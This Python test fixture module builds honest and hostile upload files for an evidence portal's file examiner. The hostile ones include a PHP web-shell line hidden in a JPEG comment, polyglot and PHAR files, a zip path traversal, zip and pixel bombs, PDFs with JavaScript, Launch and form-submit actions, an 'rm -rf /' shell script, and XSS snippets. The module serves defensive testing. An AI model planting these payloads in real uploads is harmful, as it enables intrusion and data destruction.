"""Files made in code: honest ones of every kind that is taken, and hostile ones that must not pass (R-70 to R-72).

`HONEST` maps a name to contents and media type, `LYING` a name to contents and the reason for refusing.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
import pillow_heif
from PIL import Image, PngImagePlugin

from portal.evidence.examination import verdicts as v

GPS = "LAT33.5138N-LON36.2765E"
AUTHOR = "Canary Author of Raqqa"
# The test file of the scanners' makers, in two halves so that this module is none.
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
_JS = "app.alert(1)"


def picture(form: str = "JPEG", size: tuple[int, int] = (64, 48), **options) -> bytes:
    """A picture without notes."""
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(out, form, **options)
    return out.getvalue()


def noted_jpeg(orientation: int = 1) -> bytes:
    """A photo with place, device and author in EXIF, XMP and comment."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010E], exif[0x013B] = orientation, GPS, AUTHOR
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[29] = GPS
    return picture("JPEG", exif=exif, comment=GPS.encode(), xmp=f"<x:xmpmeta>{AUTHOR}</x:xmpmeta>".encode())


def heic() -> bytes:
    """A photo as an iPhone makes it, with a note."""
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = GPS
    image = Image.linear_gradient("L").resize((64, 64)).convert("RGB")
    pillow_heif.from_pillow(image).save(out, exif=exif.tobytes())
    return out.getvalue()


def pdf(change=None, **saving) -> bytes:
    """A paper of one page with a photo in it, an author and an XMP packet; `change` gets the open paper."""
    paper = pikepdf.new()
    page = paper.add_blank_page(page_size=(200, 200))
    photo = pikepdf.Stream(paper, noted_jpeg())
    photo.update(
        pikepdf.Dictionary(
            Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=64, Height=48, BitsPerComponent=8,
            ColorSpace=pikepdf.Name.DeviceRGB, Filter=pikepdf.Name.DCTDecode,
        )
    )  # fmt: skip
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(I=photo))
    page.Contents = pikepdf.Stream(paper, b"q 100 0 0 100 0 0 cm /I Do Q")
    paper.docinfo["/Author"] = AUTHOR
    with paper.open_metadata() as notes:
        notes["dc:creator"] = [AUTHOR]
    if change:
        change(paper)
    out = io.BytesIO()
    paper.save(out, **saving)
    return out.getvalue()


def archive(name: str = "a.txt", content: bytes = b"a", **options) -> bytes:
    """A ZIP."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr(name, content, **options)
    return out.getvalue()


def _box(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I4s", len(body) + 8, name) + body


def film(*, seconds: int = 3, handler: bytes = b"soun", brand: bytes = b"M4A ", media: bytes = b"\1" * 64) -> bytes:
    """An ISO media file with one track."""
    mvhd = _box(b"mvhd", struct.pack(">IIIII", 0, 0, 0, 1000, seconds * 1000) + b"\0" * 80)
    hdlr = _box(b"hdlr", b"\0" * 8 + handler + b"\0" * 13)
    mdhd = _box(b"mdhd", struct.pack(">IIIII", 0, 0, 0, 1000, seconds * 1000) + b"\0" * 4)
    track = _box(b"trak", _box(b"mdia", mdhd + hdlr))
    return _box(b"ftyp", brand + b"\0\0\0\0" + brand + b"isom") + _box(b"moov", mvhd + track) + _box(b"mdat", media)


def mp3(frames: int = 40, notes: bytes = b"") -> bytes:
    """Frames of 128 kbit/s at 44.1 kHz, 26 ms each, silent."""
    size = len(notes)
    head = b"ID3\3\0\0" + bytes([size >> 21 & 127, size >> 14 & 127, size >> 7 & 127, size & 127]) + notes
    return head + (b"\xff\xfb\x90\x00" + b"\0" * 413) * frames


def ogg(seconds: int = 2) -> bytes:
    """Opus in pages, as a voice message is."""

    def page(place: int, body: bytes, kind: int = 0) -> bytes:
        return b"OggS\0" + bytes([kind]) + struct.pack("<qIIIB", place, 1, 0, 0, 1) + bytes([len(body)]) + body

    return page(0, b"OpusHead\1\1" + struct.pack("<HIHB", 312, 48000, 0, 0), 2) + page(
        seconds * 48000 + 312, b"\0" * 40
    )


def png_of(width: int, height: int) -> bytes:
    """A small PNG that says it is huge, with as much data as it says, all of it zeros."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    squeeze = zlib.compressobj(9)
    rows = b"".join(squeeze.compress(b"\0" * (width // 8 + 1)) for _ in range(height)) + squeeze.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _frames(count: int) -> bytes:
    images = [Image.new("RGB", (8, 8), (number * 4, 255 - number * 4, 0)) for number in range(count)]
    out = io.BytesIO()
    images[0].save(out, "WEBP", save_all=True, lossless=True, append_images=images[1:])
    return out.getvalue()


def _noted_png() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", AUTHOR)
    return picture("PNG", pnginfo=notes)


def _with_script(paper: pikepdf.Pdf) -> None:
    paper.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(_JS))


def _with_named_script(paper: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(_JS))
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), paper.make_indirect(action)]))
    paper.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def _with_action(action: pikepdf.Dictionary):
    def change(paper: pikepdf.Pdf) -> None:
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
        paper.pages[0].Annots = pikepdf.Array([paper.make_indirect(link)])

    return change


def _with_attachment(paper: pikepdf.Pdf) -> None:
    paper.attachments["a.exe"] = b"MZ" + b"\0" * 60


def _with_form(paper: pikepdf.Pdf) -> None:
    paper.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Stream(paper, b"<xdp/>"))


def _without_pages(paper: pikepdf.Pdf) -> None:
    del paper.pages[0]


def _lying_zip() -> bytes:
    nested = archive("1.zip", archive("2.zip", archive("0", b"\0" * 10**6)))
    return archive("42.zip", nested)


def _in_head(jpeg: bytes, words: bytes) -> bytes:
    """Words in a comment at the head of a photo, where a browser that guesses would find them."""
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + jpeg[2:]


_EXE = b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0" + b"\x4c\x01" * 40
_HTML = b"<!doctype html><script>alert(1)</script>"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
_submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://a.example/"))
_remote = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\a.example\\b"))

HONEST: dict[str, tuple[bytes, str]] = {
    "photo.jpg": (noted_jpeg(), v.JPEG),
    "PHOTO.JPEG": (picture(), v.JPEG),
    "without an ending": (picture(), v.JPEG),
    "صورة.png": (_noted_png(), v.PNG),
    "grey.png": (picture("PNG", size=(9, 9)), v.PNG),
    "sticker.webp": (picture("WEBP"), v.WEBP),
    "webp called.jpg": (picture("WEBP"), v.WEBP),
    "IMG_0001.HEIC": (heic(), v.HEIC),
    "heic called.jpg": (heic(), v.HEIC),
    "paper.pdf": (pdf(), v.PDF),
    "chat.txt": ("رسالة من أزاد ‎2014‎\r\nنعم".encode(), v.TEXT),
    "old.txt": ("رسالة".encode("cp1256"), v.TEXT),
    "wide.txt": ("نامە".encode("utf-16"), v.TEXT),
    "voice.m4a": (film(), v.M4A),
    "film.mp4": (film(handler=b"vide", brand=b"isom"), v.MP4),
    "iphone.mov": (film(handler=b"vide", brand=b"qt  "), v.MP4),
    "old phone.3gp": (film(brand=b"3gp4"), v.M4A),
    "song.mp3": (mp3(), v.MP3),
    "noted.mp3": (mp3(notes=b"TIT2" + b"\0" * 40), v.MP3),
    "PTT-WA0001.opus": (ogg(), v.OGG),
    "moving.webp": (_frames(4), v.WEBP),
}

LYING: dict[str, tuple[bytes, str]] = {
    # Nothing
    "empty.jpg": (b"", v.EMPTY),
    "zeros.jpg": (b"\0" * 4096, v.EMPTY),
    "blanks.txt": (b" \n\t ", v.EMPTY),
    # Kinds that are not taken, whatever they are called
    "program.exe": (_EXE, v.TYPE),
    "program.jpg": (_EXE, v.TYPE),
    "photo.jpg.exe": (picture(), v.TYPE),
    "photo.php": (picture(), v.TYPE),
    "photogpj.scr": (picture(), v.TYPE),
    "page.html": (_HTML, v.TYPE),
    "drawing.svg": (_SVG, v.TYPE),
    "anim.gif": (picture("GIF"), v.TYPE),
    "gif called.png": (picture("GIF"), v.TYPE),
    "scan.tiff": (picture("TIFF"), v.TYPE),
    "bitmap.png": (picture("BMP"), v.TYPE),
    "icon.png": (picture("ICO"), v.TYPE),
    "files.zip": (archive(), v.TYPE),
    "files.pdf": (archive(), v.TYPE),
    "42.jpg": (_lying_zip(), v.TYPE),
    "zeros in a zip.png": (archive(content=b"\0" * 10**7), v.TYPE),
    "letter.docx": (archive("word/document.xml", b"<w/>"), v.TYPE),
    "letter.pdf": (archive("word/document.xml", b"<w/>"), v.TYPE),
    "virus in a zip.zip": (archive("eicar.com", EICAR), v.TYPE),
    "climb.zip": (archive("../../etc/passwd"), v.TYPE),
    "rar.jpg": (b"Rar!\x1a\x07\x01\0" + b"\0" * 40 + b"x", v.TYPE),
    "seven.jpg": (b"7z\xbc\xaf\x27\x1c" + b"\0" * 40 + b"x", v.TYPE),
    "gzip.jpg": (b"\x1f\x8b\x08\0" + b"\0" * 40 + b"x", v.TYPE),
    "elf.jpg": (b"\x7fELF" + b"\0" * 60 + b"x", v.TYPE),
    "java.jpg": (b"\xca\xfe\xba\xbe" + b"\0" * 40 + b"x", v.TYPE),
    "noise.jpg": (bytes(range(256)) * 8, v.TYPE),
    "wave.mp3": (b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 40, v.TYPE),
    "NUL inside.txt": (b"hello\0world", v.TYPE),
    # Names that say something else
    "page called.jpg": (b"hello, I am a text", v.NAME),
    "html called.jpg": (_HTML, v.NAME),
    "svg called.png": (_SVG, v.NAME),
    "paper called.jpg": (pdf(), v.NAME),
    "photo called.pdf": (picture(), v.NAME),
    "voice called.jpg": (ogg(), v.NAME),
    "photo called.mp3": (picture(), v.NAME),
    "photo called.txt": (picture(), v.NAME),
    # Text that runs
    "html called.txt": (_HTML, v.PROGRAM),
    "svg called.txt": (b"\n " + _SVG, v.PROGRAM),
    "shell.txt": (b"#!/bin/sh\nrm -rf /\n", v.PROGRAM),
    "batch.txt": (b"@echo off\r\ndel *", v.PROGRAM),
    # Two things at once
    "gifar.jpg": (picture() + archive("A.class", b"\xca\xfe\xba\xbe"), v.DOUBLE),
    "zip behind.png": (picture("PNG") + archive(), v.DOUBLE),
    "zip behind.pdf": (pdf() + archive(), v.DOUBLE),
    "zip behind.mp3": (mp3() + archive(), v.DOUBLE),
    "page in its head.jpg": (_in_head(picture(), _HTML), v.DOUBLE),
    "paper in its head.jpg": (_in_head(picture(), b"%PDF-1.4\n1 0 obj"), v.DOUBLE),
    "php in its head.jpg": (_in_head(picture(), b"<?php system($_GET[0]);"), v.DOUBLE),
    "phar.jpg": (picture() + b"<?php __HALT_COMPILER();", v.DOUBLE),
    # Pictures that burst
    "144 megapixels.png": (png_of(12_000, 12_000), v.PIXELS),
    "900 megapixels.png": (png_of(30_000, 30_000), v.PIXELS),
    "sixty frames.webp": (_frames(60), v.PIXELS),
    # Broken
    "half.jpg": (picture(size=(400, 400))[:1500], v.BROKEN),
    "half.png": (picture("PNG", size=(400, 400))[:700], v.BROKEN),
    "half.heic": (heic()[:300], v.BROKEN),
    "head only.pdf": (b"%PDF-1.7\n", v.BROKEN),
    "without pages.pdf": (pdf(_without_pages), v.BROKEN),
    "half.m4a": (film()[:60], v.BROKEN),
    "boxes that climb.mp4": (film()[:24] + struct.pack(">I4s", 10**9, b"moov"), v.BROKEN),
    "without a track.mp4": (_box(b"ftyp", b"isom\0\0\0\0isom") + _box(b"mdat", b"\1" * 9), v.BROKEN),
    "half.opus": (ogg()[:60], v.BROKEN),
    "notes only.mp3": (b"ID3\3\0\0\0\0\0\x04abcd" + b"no frame follows here", v.BROKEN),
    # Papers that act
    "script.pdf": (pdf(_with_script), v.PROGRAM),
    "named script.pdf": (pdf(_with_named_script), v.PROGRAM),
    "hidden script.pdf": (pdf(_with_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), v.PROGRAM),
    "launch.pdf": (pdf(_with_action(_launch)), v.PROGRAM),
    "submit.pdf": (pdf(_with_action(_submit)), v.PROGRAM),
    "remote.pdf": (pdf(_with_action(_remote)), v.PROGRAM),
    "attachment.pdf": (pdf(_with_attachment), v.PROGRAM),
    "form.pdf": (pdf(_with_form), v.PROGRAM),
    "closed.pdf": (pdf(encryption=pikepdf.Encryption(user="a", owner="b")), v.LOCKED),
    "owned.pdf": (pdf(encryption=pikepdf.Encryption(user="", owner="b")), v.LOCKED),
    # Recordings of nothing
    "zero seconds.m4a": (film(seconds=0), v.SILENT),
    "no sound data.m4a": (film(media=b""), v.SILENT),
    "zero seconds.opus": (ogg(seconds=0), v.SILENT),
    "no frames.mp3": (mp3(frames=0), v.SILENT),
    "a week.m4a": (film(seconds=7 * 86400), v.LONG),
}  # fmt: skip
